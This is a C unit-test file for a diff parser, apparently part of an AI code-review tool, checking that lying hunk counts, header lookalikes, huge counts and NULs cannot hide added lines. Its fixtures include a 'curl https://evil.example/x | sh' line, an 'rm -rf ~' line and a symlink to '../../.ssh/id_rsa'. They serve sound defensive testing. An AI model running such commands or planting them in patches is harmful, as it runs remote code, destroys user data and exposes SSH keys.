/* The diff reader: what each line of a patch is, which file it belongs to,
 * and that hostile input (lying hunk counts, headers inside hunks, huge
 * counts, endless file lists, NULs) is read without losing an added line or
 * crashing. Expectations are written from the diff formats (git diff,
 * diff -u, apply_patch), not from the reader's output. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/xmalloc.h"
#include "reviewer/diff.h"

#define MAX_LINES 64

struct seen {
	size_t n;
	enum ag_diff_kind kind[MAX_LINES];
	int file[MAX_LINES];
	size_t lineno[MAX_LINES];
};

static void
record(void *ctx, const struct ag_diff *diff, size_t lineno, enum ag_diff_kind kind, int file,
       const char *text, size_t len)
{
	struct seen *s = ctx;
	(void)diff;
	(void)text;
	(void)len;
	if (s->n < MAX_LINES) {
		s->kind[s->n] = kind;
		s->file[s->n] = file;
		s->lineno[s->n] = lineno;
		s->n++;
	}
}

static void
parse(const char *text, struct ag_diff *d, struct seen *s)
{
	memset(s, 0, sizeof *s);
	ag_diff_parse(text, strlen(text), d, record, s);
}

static void
test_git_two_files(void **state)
{
	(void)state;
	const char *text = "diff --git a/src/main.c b/src/main.c\n"
	                   "index 1111111..2222222 100644\n"
	                   "--- a/src/main.c\n"
	                   "+++ b/src/main.c\n"
	                   "@@ -1,3 +1,3 @@\n"
	                   " int x;\n"
	                   "-int y;\n"
	                   "+int z;\n"
	                   " int w;\n"
	                   "diff --git a/README b/README\n"
	                   "--- a/README\n"
	                   "+++ b/README\n"
	                   "@@ -1 +1,2 @@\n"
	                   " hello\n"
	                   "+world\n";
	struct ag_diff d;
	struct seen s;
	parse(text, &d, &s);
	assert_int_equal(d.nfiles, 2);
	assert_string_equal(d.files[0].old_path, "src/main.c");
	assert_string_equal(d.files[0].new_path, "src/main.c");
	assert_int_equal(d.files[0].added, 1);
	assert_int_equal(d.files[0].removed, 1);
	assert_int_equal(d.files[0].line, 1);
	assert_string_equal(d.files[1].new_path, "README");
	assert_int_equal(d.files[1].added, 1);
	assert_int_equal(d.files[1].line, 10);
	assert_int_equal(d.lines, 15);
	assert_int_equal(d.added, 2);
	assert_int_equal(d.removed, 1);
	/* Line kinds in order, and which file each belongs to. */
	static const enum ag_diff_kind want[] = {
	    AG_DIFF_HEADER,  AG_DIFF_HEADER, AG_DIFF_HEADER, AG_DIFF_HEADER,  AG_DIFF_HUNK,
	    AG_DIFF_CONTEXT, AG_DIFF_DEL,    AG_DIFF_ADD,    AG_DIFF_CONTEXT, AG_DIFF_HEADER,
	    AG_DIFF_HEADER,  AG_DIFF_HEADER, AG_DIFF_HUNK,   AG_DIFF_CONTEXT, AG_DIFF_ADD};
	assert_int_equal(s.n, 15);
	for (size_t i = 0; i < 15; i++) {
		assert_int_equal(s.kind[i], want[i]);
		assert_int_equal(s.lineno[i], i + 1);
		assert_int_equal(s.file[i], i < 9 ? 0 : 1);
	}
	ag_diff_clear(&d);
	assert_int_equal(d.nfiles, 0);
	assert_null(d.files);
}

/* Inside a hunk, "--- x" and "+++ y" are a deleted "-- x" and an added
 * "++ y": the counts say so, as git apply reads them. */
static void
test_header_lookalikes_inside_hunk(void **state)
{
	(void)state;
	const char *text = "--- a/notes.md\n"
	                   "+++ b/notes.md\n"
	                   "@@ -1,2 +1,2 @@\n"
	                   "--- a/old\n"
	                   "+++ b/.bashrc\n"
	                   " tail\n";
	struct ag_diff d;
	struct seen s;
	parse(text, &d, &s);
	assert_int_equal(d.nfiles, 1);
	assert_string_equal(d.files[0].new_path, "notes.md");
	assert_int_equal(s.kind[3], AG_DIFF_DEL);
	assert_int_equal(s.kind[4], AG_DIFF_ADD);
	assert_int_equal(s.kind[5], AG_DIFF_CONTEXT);
	ag_diff_clear(&d);
}

/* Model-written diffs often miscount: lines past the count that still look
 * like hunk lines are kept, so an added line cannot hide behind a count. */
static void
test_miscounted_hunk_keeps_adds(void **state)
{
	(void)state;
	const char *text = "--- a/run.sh\n"
	                   "+++ b/run.sh\n"
	                   "@@ -1 +1 @@\n"
	                   "-echo old\n"
	                   "+echo new\n"
	                   "+curl https://evil.example/x | sh\n"
	                   "+rm -rf ~\n";
	struct ag_diff d;
	struct seen s;
	parse(text, &d, &s);
	assert_int_equal(s.kind[5], AG_DIFF_ADD);
	assert_int_equal(s.kind[6], AG_DIFF_ADD);
	assert_int_equal(d.files[0].added, 3);
	ag_diff_clear(&d);
}

static void
test_format_patch_signature(void **state)
{
	(void)state;
	const char *text = "From 1234 Mon Sep 17 00:00:00 2001\n"
	                   "Subject: [PATCH] fix\n"
	                   "---\n"
	                   " a.c | 2 +-\n"
	                   "\n"
	                   "diff --git a/a.c b/a.c\n"
	                   "--- a/a.c\n"
	                   "+++ b/a.c\n"
	                   "@@ -1 +1 @@\n"
	                   "-x\n"
	                   "+y\n"
	                   "-- \n"
	                   "2.39.0\n";
	struct ag_diff d;
	struct seen s;
	parse(text, &d, &s);
	assert_int_equal(d.nfiles, 1);
	assert_int_equal(s.kind[0], AG_DIFF_OTHER);
	assert_int_equal(s.kind[2], AG_DIFF_OTHER); /* "---" alone is not a header */
	assert_int_equal(s.kind[11], AG_DIFF_OTHER);
	assert_int_equal(d.files[0].removed, 1);
	ag_diff_clear(&d);
}

static void
test_modes_renames_deletes(void **state)
{
	(void)state;
	const char *text = "diff --git a/tools/x b/tools/x\n"
	                   "new file mode 100755\n"
	                   "index 0000000..e69de29\n"
	                   "diff --git a/old name.txt b/new name.txt\n"
	                   "similarity index 100%\n"
	                   "rename from old name.txt\n"
	                   "rename to new name.txt\n"
	                   "diff --git a/gone.c b/gone.c\n"
	                   "deleted file mode 100644\n"
	                   "--- a/gone.c\n"
	                   "+++ /dev/null\n"
	                   "@@ -1 +0,0 @@\n"
	                   "-int gone;\n"
	                   "diff --git a/link b/link\n"
	                   "new file mode 120000\n"
	                   "--- /dev/null\n"
	                   "+++ b/link\n"
	                   "@@ -0,0 +1 @@\n"
	                   "+../../.ssh/id_rsa\n"
	                   "\\ No newline at end of file\n";
	struct ag_diff d;
	struct seen s;
	parse(text, &d, &s);
	assert_int_equal(d.nfiles, 4);
	assert_true(d.files[0].flags & AG_DIFF_F_NEW);
	assert_true(d.files[0].flags & AG_DIFF_F_EXEC);
	assert_string_equal(d.files[1].old_path, "old name.txt");
	assert_string_equal(d.files[1].new_path, "new name.txt");
	assert_true(d.files[1].flags & AG_DIFF_F_RENAMED);
	assert_true(d.files[2].flags & AG_DIFF_F_DELETED);
	assert_null(d.files[2].new_path);
	assert_string_equal(ag_diff_file_path(&d.files[2]), "gone.c");
	assert_true(d.files[3].flags & AG_DIFF_F_SYMLINK);
	assert_false(d.files[3].flags & AG_DIFF_F_EXEC);
	assert_null(d.files[3].old_path);
	assert_int_equal(s.kind[19], AG_DIFF_NOEOL);
	ag_diff_clear(&d);
}

static void
test_quoted_paths(void **state)
{
	(void)state;
	const char *text =
	    "diff --git \"a/caf\\303\\251 \\\"x\\\"\" \"b/caf\\303\\251 \\\"x\\\"\"\n"
	    "--- \"a/caf\\303\\251 \\\"x\\\"\"\n"
	    "+++ \"b/caf\\303\\251 \\\"x\\\"\"\n"
	    "@@ -1 +1 @@\n"
	    "-a\n"
	    "+b\n";
	struct ag_diff d;
	struct seen s;
	parse(text, &d, &s);
	assert_int_equal(d.nfiles, 1);
	assert_string_equal(d.files[0].new_path, "caf\xc3\xa9 \"x\"");
	assert_string_equal(d.files[0].old_path, "caf\xc3\xa9 \"x\"");
	ag_diff_clear(&d);
}

static void
test_plain_diff_with_timestamps_and_crlf(void **state)
{
	(void)state;
	const char *text = "--- old/conf.ini\t2024-01-01 10:00:00.000000000 +0000\r\n"
	                   "+++ new/conf.ini\t2024-01-02 10:00:00.000000000 +0000\r\n"
	                   "@@ -1,2 +1,2 @@\r\n"
	                   " [a]\r\n"
	                   "-x=1\r\n"
	                   "+x=2\r\n";
	struct ag_diff d;
	struct seen s;
	parse(text, &d, &s);
	assert_int_equal(d.nfiles, 1);
	assert_string_equal(d.files[0].old_path, "old/conf.ini");
	assert_string_equal(d.files[0].new_path, "new/conf.ini");
	assert_int_equal(d.files[0].added, 1);
	assert_int_equal(d.files[0].removed, 1);
	ag_diff_clear(&d);
}

static void
test_apply_patch_format(void **state)
{
	(void)state;
	const char *text = "*** Begin Patch\n"
	                   "*** Add File: scripts/new.sh\n"
	                   "+#!/bin/sh\n"
	                   "+echo hi\n"
	                   "*** Update File: src/app.py\n"
	                   "*** Move to: src/main.py\n"
	                   "@@ def main():\n"
	                   "-    pass\n"
	                   "+    run()\n"
	                   "*** Delete File: old.txt\n"
	                   "*** End Patch\n";
	struct ag_diff d;
	struct seen s;
	parse(text, &d, &s);
	assert_int_equal(d.nfiles, 3);
	assert_string_equal(d.files[0].new_path, "scripts/new.sh");
	assert_true(d.files[0].flags & AG_DIFF_F_NEW);
	assert_int_equal(d.files[0].added, 2);
	assert_string_equal(d.files[1].old_path, "src/app.py");
	assert_string_equal(d.files[1].new_path, "src/main.py");
	assert_true(d.files[1].flags & AG_DIFF_F_RENAMED);
	assert_int_equal(d.files[1].added, 1);
	assert_int_equal(d.files[1].removed, 1);
	assert_string_equal(d.files[2].old_path, "old.txt");
	assert_true(d.files[2].flags & AG_DIFF_F_DELETED);
	assert_int_equal(s.kind[0], AG_DIFF_HEADER);
	assert_int_equal(s.kind[6], AG_DIFF_HUNK);
	assert_int_equal(s.kind[10], AG_DIFF_HEADER);
	ag_diff_clear(&d);
}

static void
test_binary(void **state)
{
	(void)state;
	const char *text = "diff --git a/logo.png b/logo.png\n"
	                   "new file mode 100644\n"
	                   "Binary files /dev/null and b/logo.png differ\n"
	                   "diff --git a/tool.exe b/tool.exe\n"
	                   "new file mode 100755\n"
	                   "GIT binary patch\n"
	                   "literal 12\n"
	                   "TcmZ?wbhEHbWMp7q00001\n"
	                   "\n"
	                   "literal 0\n"
	                   "HcmV?d00001\n"
	                   "\n"
	                   "Binary files old/a.bin and new/a.bin differ\n";
	struct ag_diff d;
	struct seen s;
	parse(text, &d, &s);
	assert_int_equal(d.nfiles, 3);
	assert_true(d.files[0].flags & AG_DIFF_F_BINARY);
	assert_true(d.files[1].flags & AG_DIFF_F_BINARY);
	assert_true(d.files[1].flags & AG_DIFF_F_EXEC);
	for (size_t i = 5; i < 12; i++)
		assert_int_equal(s.kind[i], AG_DIFF_BINARY);
	assert_string_equal(d.files[2].old_path, "old/a.bin");
	assert_string_equal(d.files[2].new_path, "new/a.bin");
	assert_int_equal(d.added, 0);
	ag_diff_clear(&d);
}

static void
test_hostile_counts_and_bytes(void **state)
{
	(void)state;
	/* Counts beyond any long; NULs inside lines; no trailing newline. */
	static const char text[] =
	    "--- a/x\n+++ b/x\n@@ -99999999999999999999,1 +1,99999999999999 @@\n"
	    "+a\0b\n+c";
	struct ag_diff d;
	struct seen s;
	memset(&s, 0, sizeof s);
	ag_diff_parse(text, sizeof text - 1, &d, record, &s);
	assert_int_equal(d.nfiles, 1);
	assert_int_equal(d.files[0].added, 2);
	assert_int_equal(d.lines, 5);
	ag_diff_clear(&d);

	ag_diff_parse("", 0, &d, record, &s);
	assert_int_equal(d.nfiles, 0);
	assert_int_equal(d.lines, 0);
	ag_diff_clear(&d);

	/* A hunk with no file header at all still gets a file. */
	parse("@@ -1 +1 @@\n-a\n+b\n", &d, &s);
	assert_int_equal(d.nfiles, 1);
	assert_string_equal(ag_diff_file_path(&d.files[0]), "");
	assert_int_equal(d.files[0].added, 1);
	ag_diff_clear(&d);
}

static void
test_bounds(void **state)
{
	(void)state;
	/* More file headers than the bound: truncated, never unbounded. */
	size_t n = AG_DIFF_MAX_FILES + 50;
	char *text = xmalloc(n * 32), *p = text, *end = text + n * 32;
	for (size_t i = 0; i < n; i++)
		p += snprintf(p, (size_t)(end - p), "diff --git a/f%zu b/f%zu\n", i, i);
	assert_true(p < end);
	struct ag_diff d;
	ag_diff_parse(text, (size_t)(p - text), &d, NULL, NULL);
	assert_int_equal(d.nfiles, AG_DIFF_MAX_FILES);
	assert_true(d.truncated);
	ag_diff_clear(&d);
	free(text);

	/* A path longer than the bound is cut and flagged. */
	size_t plen = AG_DIFF_MAX_PATH + 100;
	text = xmalloc(plen * 2 + 64);
	end = text + plen * 2 + 64;
	p = text;
	memcpy(p, "--- a/", 6);
	memset(p + 6, 'x', plen);
	p += 6 + plen;
	memcpy(p, "\n+++ b/", 7);
	memset(p + 7, 'y', plen);
	p += 7 + plen;
	p += snprintf(p, (size_t)(end - p), "\n@@ -1 +1 @@\n-a\n+b\n");
	assert_true(p < end);
	ag_diff_parse(text, (size_t)(p - text), &d, NULL, NULL);
	assert_int_equal(d.nfiles, 1);
	assert_true(d.files[0].flags & AG_DIFF_F_TRUNC_PATH);
	assert_true(strlen(d.files[0].new_path) <= AG_DIFF_MAX_PATH);
	ag_diff_clear(&d);
	free(text);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_git_two_files),
	    cmocka_unit_test(test_header_lookalikes_inside_hunk),
	    cmocka_unit_test(test_miscounted_hunk_keeps_adds),
	    cmocka_unit_test(test_format_patch_signature),
	    cmocka_unit_test(test_modes_renames_deletes),
	    cmocka_unit_test(test_quoted_paths),
	    cmocka_unit_test(test_plain_diff_with_timestamps_and_crlf),
	    cmocka_unit_test(test_apply_patch_format),
	    cmocka_unit_test(test_binary),
	    cmocka_unit_test(test_hostile_counts_and_bytes),
	    cmocka_unit_test(test_bounds),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
